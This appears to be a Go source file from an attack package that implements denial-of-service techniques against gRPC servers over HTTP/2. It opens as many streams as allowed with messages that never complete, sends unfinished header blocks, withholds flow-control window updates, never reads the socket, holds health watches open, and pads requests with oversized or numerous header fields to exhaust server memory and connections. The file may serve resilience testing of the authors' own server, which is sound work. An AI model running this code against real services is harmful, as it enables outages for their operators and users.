package attack

import (
	"context"
	"encoding/binary"
	"net"
	"slices"
	"strings"

	"golang.org/x/net/http2/hpack"
)

// messageSize is the largest message that the server takes, with its prefix of
// five bytes beside it.
const messageSize = 16 << 10

// prefixed returns a gRPC message of which the first n bytes are there.
func prefixed(announced, n int) []byte {
	body := make([]byte, n)
	binary.BigEndian.PutUint32(body[1:], uint32(announced))
	return body
}

// largeMetadata is one value of nearly all that headers may be.
var largeMetadata = hpack.HeaderField{Name: "x-held", Value: strings.Repeat("x", 14<<10)}

// manyFields are one byte each on the wire, 35 as HPACK counts them, and more in the server.
var manyFields = slices.Repeat([]hpack.HeaderField{{Name: "age"}}, 440)

// hold opens as many calls as the server allows, each with metadata and the
// beginning of a message whose end never comes.
func hold(bytes int, metadata ...hpack.HeaderField) func(context.Context, *client) error {
	return func(ctx context.Context, c *client) error {
		block, body := c.header(issueToken, metadata...), prefixed(messageSize, bytes)
		for {
			if err := c.awaitPlace(ctx); err != nil {
				return err
			}
			id, err := c.begin(block, message)
			if err != nil {
				return err
			}
			if err := c.data(id, body, false); err != nil {
				return err
			}
		}
	}
}

// unendedHeaders sends 14 KB of a header block and never its end.
func unendedHeaders(ctx context.Context, c *client) error {
	block := c.header(issueToken, largeMetadata)
	if _, err := c.begin(block[:len(block)-1], unended); err != nil {
		return err
	}
	return c.hold(ctx)
}

// unread makes as many calls as the server allows. With a window of zero bytes
// their replies cannot be sent.
func unread(ctx context.Context, c *client) error {
	block := c.header(issueToken)
	for {
		if err := c.awaitPlace(ctx); err != nil {
			return err
		}
		if err := c.call(block); err != nil {
			return err
		}
	}
}

// neverReads makes calls without end and does not read the socket.
func neverReads(ctx context.Context, a *attacker, conn net.Conn) error {
	if small, ok := conn.(interface{ SetReadBuffer(bytes int) error }); ok {
		_ = small.SetReadBuffer(4096)
	}
	c, err := connect(a, conn, true)
	if err != nil {
		return err
	}
	c.window.Store(1 << 40) // nobody hears of updates; the server gives them as it reads
	block := c.header(issueToken)
	for ctx.Err() == nil {
		if err := c.call(block); err != nil {
			return err
		}
	}
	return ctx.Err()
}

// watches holds as many health watches as the server allows.
func watches(ctx context.Context, c *client) error {
	block := c.header(healthWatch)
	for {
		if err := c.awaitPlace(ctx); err != nil {
			return err
		}
		if err := c.watch(block); err != nil {
			return err
		}
		if err := c.pause(ctx); err != nil {
			return err
		}
	}
}

func (c *client) watch(block []byte) error {
	id, err := c.begin(block, message)
	if err != nil {
		return err
	}
	return c.data(id, prefixed(0, 5), true)
}
